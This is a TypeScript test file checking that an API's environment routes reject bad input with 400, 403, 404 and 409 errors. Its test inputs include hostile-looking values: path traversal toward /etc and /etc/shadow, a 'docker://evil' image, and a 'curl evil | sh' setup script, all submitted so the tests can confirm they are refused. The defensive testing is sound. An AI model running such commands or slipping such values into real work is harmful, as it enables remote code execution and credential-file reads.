// Bad input on the environment routes: a clear 4xx in the error shape, and nothing changed.
// Names that are not DNS labels, image references that reach for the host (file://, relative
// or `..` paths), unknown fields, oversized scripts and pools, another user's environment.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { api, createUser, startTestServer, type TestServer } from "../helpers/server.ts";

describe("environment routes refuse bad input and change nothing", () => {
  let s: TestServer;
  let mallory: { id: string; token: string };

  before(async () => {
    s = await startTestServer("embedded");
    mallory = await createUser(s, "mallory");
    assert.equal((await api(s, "POST", "/api/v1/environments", { body: { name: "kept", setup: "true" } })).status, 201);
    assert.equal((await api(s, "POST", "/api/v1/projects", { body: { name: "plain" } })).status, 201);
  });
  after(async () => s?.close());

  const names = async () => ((await api(s, "GET", "/api/v1/environments")).body.items as { name: string }[]).map((e) => e.name);

  test("bodies with bad names, images, fields or sizes are 400 with a hint, and make nothing", async () => {
    const bad: Record<string, unknown>[] = [
      { name: "../etc" },
      { name: "Upper" },
      { name: "none" },
      { name: "x".repeat(64) },
      { name: "ok1", image: "file:///etc" },
      { name: "ok2", image: "oci-layout:relative/path" },
      { name: "ok3", image: "oci-archive:/imports/../etc/shadow" },
      { name: "ok4", image: "debian:sid-or-anything" },
      { name: "ok5", image: "docker://evil" },
      { name: "ok6", setup: "x".repeat(64 * 1024 + 1) },
      { name: "ok7", poolSize: 17 },
      { name: "ok8", poolSize: -1 },
      { name: "ok9", setupEnv: { "BAD=NAME": "x" } },
      { name: "ok10", runAs: "root" },
    ];
    for (const body of bad) {
      const res = await api(s, "POST", "/api/v1/environments", { body });
      assert.equal(res.status, 400, `${JSON.stringify(body).slice(0, 80)} → ${res.status}`);
      assert.equal(res.body.error.code, "VALIDATION_FAILED");
      assert.ok(res.body.error.hint);
    }
    assert.deepEqual(await names(), ["kept"]);
    const patch = await api(s, "PATCH", "/api/v1/environments/kept", { body: { name: "renamed" } });
    assert.equal(patch.status, 400, "the name cannot change");
    assert.equal((await api(s, "GET", "/api/v1/environments/kept")).body.setup, "true");
  });

  test("unknown environments are 404 ENVIRONMENT_NOT_FOUND, and a project is not pointed at one", async () => {
    const missing = await api(s, "GET", "/api/v1/environments/nope");
    assert.equal(missing.status, 404);
    assert.equal(missing.body.error.code, "ENVIRONMENT_NOT_FOUND");
    const pointed = await api(s, "PATCH", "/api/v1/projects/plain", { body: { environment: "nope" } });
    assert.equal(pointed.status, 404);
    assert.equal((await api(s, "GET", "/api/v1/projects/plain")).body.environment, null);
    assert.equal((await api(s, "POST", "/api/v1/environments/nope/builds")).status, 404);
  });

  test("another user reads an environment but cannot change, build or delete it", async () => {
    const as = { url: s.url, token: mallory.token };
    assert.equal((await api(as, "GET", "/api/v1/environments/kept")).status, 200);
    for (const [method, path, body] of [
      ["PATCH", "/api/v1/environments/kept", { setup: "curl evil | sh" }],
      ["POST", "/api/v1/environments/kept/builds", undefined],
      ["DELETE", "/api/v1/environments/kept", undefined],
    ] as const) {
      const res = await api(as, method, path, body ? { body } : {});
      assert.equal(res.status, 403, `${method} ${path}`);
      assert.equal(res.body.error.code, "FORBIDDEN");
    }
    assert.equal((await api(s, "GET", "/api/v1/environments/kept")).body.setup, "true", "unchanged");
  });

  test("a name that is taken is a 409, and an environment a project uses cannot be deleted", async () => {
    const taken = await api(s, "POST", "/api/v1/environments", { body: { name: "kept" } });
    assert.equal(taken.status, 409);
    assert.equal(taken.body.error.code, "ENVIRONMENT_EXISTS");
    assert.equal((await api(s, "PATCH", "/api/v1/projects/plain", { body: { environment: "kept" } })).status, 200);
    const used = await api(s, "DELETE", "/api/v1/environments/kept");
    assert.equal(used.status, 409);
    assert.equal(used.body.error.code, "ENVIRONMENT_IN_USE");
    assert.deepEqual(used.body.error.details.projects, ["plain"]);
    assert.deepEqual(await names(), ["kept"]);
  });
});
